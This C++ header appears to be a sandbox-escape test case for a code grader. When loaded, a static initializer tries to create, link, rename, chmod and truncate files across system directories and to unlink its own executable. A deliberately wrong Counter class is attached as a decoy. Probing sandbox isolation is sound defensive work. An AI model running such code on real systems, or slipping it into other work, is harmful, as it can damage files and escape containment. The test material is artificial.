// ATTACK writes_files
// CLASS: escape
// TRIES: makes, changes, renames and links files wherever it may.
// SAFE GRADER MUST: let nothing through: no file, no process, no signal, no socket outside of the
//   box.
// HONEST-RESULT: fail
// AT-MOST: 0
#pragma once
#include <initializer_list>
#include <cstdio>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>
namespace writing {
inline const int done = [] {
    for (const char* folder : {"/tmp", "/var/tmp", "/dev/shm", "/", ".", "..", "/root", "/home", "/run", "/dev", "/usr/lib",
                               "/proc/self/cwd", "/proc/self/root/tmp"}) {
        const std::string path = std::string(folder) + "/pwned_by_write";
        const int file = open(path.c_str(), O_CREAT | O_RDWR | O_APPEND, 0777);
        if (file >= 0) std::printf("WRITE-POSSIBLE %s %zd\n", path.c_str(), write(file, "x", 1));
        if (!mkdir((path + "d").c_str(), 0777) || !mkfifo((path + "f").c_str(), 0777) || !symlink("/etc", (path + "l").c_str()) ||
            !link("/proc/self/exe", (path + "h").c_str()) || open(folder, O_TMPFILE | O_RDWR, 0600) >= 0)
            std::printf("WRITE-POSSIBLE %s\n", folder);
        if (!rename(folder, path.c_str()) || !chmod(folder, 0777) || !truncate(folder, 0)) std::puts("WRITE-POSSIBLE folder");
    }
    if (FILE* maps = std::fopen("/proc/self/maps", "r")) {  // the folder of this program
        char line[600], place[600] = {};
        while (std::fgets(line, sizeof line, maps))
            if (std::sscanf(line, "%*s %*s %*s %*s %*s %500s", place) == 1 && place[0] == '/') break;
        std::fclose(maps);
        const std::string program = place, folder = program.substr(0, program.rfind('/'));
        for (const std::string& path : {program, folder + "/pwned_beside", folder + "/../pwned_above", folder + "/../../../pwned_temp"})
            if (open(path.c_str(), O_CREAT | O_WRONLY, 0755) >= 0) std::printf("WRITE-POSSIBLE %s\n", path.c_str());
        if (!unlink(place)) std::puts("WRITE-POSSIBLE unlink");
    }
    std::fflush(stdout);
    return 0;
}();
}

class Counter {  // wrong on purpose
public:
    void inc() {}
    void add(int) {}
    void reset() {}
    int value() const { return 4711; }
};
